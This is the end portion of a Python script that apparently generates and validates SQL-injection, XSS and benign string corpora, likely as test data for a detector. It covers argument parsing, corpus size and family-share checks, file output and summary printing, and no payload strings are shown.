        encoded = sum(1 for _, notes in out.values() if any(n.startswith("enc_") for n in notes))
        lines.append(f"  {'(encoded in some way)':<22} {encoded:>6}  {100.0 * encoded / total:5.1f}%")
    return "\n".join(lines)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    here = os.path.dirname(os.path.abspath(__file__))
    parser.add_argument("--out-dir", default=here, help="where to write the three files")
    parser.add_argument("--explain", action="store_true",
                        help="print corpus, family and notes of every line (tab-separated)")
    parser.add_argument("--quiet", action="store_true", help="print nothing on success")
    args = parser.parse_args()

    corpora = {}
    corpora["sqli"] = build("sqli", {})
    corpora["xss"] = build("xss", corpora["sqli"])
    attacks = dict(corpora["sqli"])
    attacks.update(corpora["xss"])
    corpora["benign"] = build("benign", attacks)

    for corpus, out in corpora.items():
        if len(out) < MINIMUMS[corpus]:
            raise SystemExit(f"{corpus}: {len(out)} strings, fewer than {MINIMUMS[corpus]}")
        for fam, _ in FAMILIES[corpus]:
            share = sum(1 for f, _ in out.values() if f == fam) / len(out)
            if share > MAX_SHARE:
                raise SystemExit(f"{corpus}/{fam}: {share:.1%} of the corpus (> {MAX_SHARE:.0%})")

    os.makedirs(args.out_dir, exist_ok=True)
    for corpus, out in corpora.items():
        path = os.path.join(args.out_dir, FILES[corpus])
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            for line in out:
                f.write(line + "\n")

    if args.explain:
        for corpus, out in corpora.items():
            for line, (fam, notes) in out.items():
                print(f"{corpus}\t{fam}\t{','.join(notes)}\t{line}")
    elif not args.quiet:
        for corpus, out in corpora.items():
            print(summarize(corpus, out))


if __name__ == "__main__":
    main()
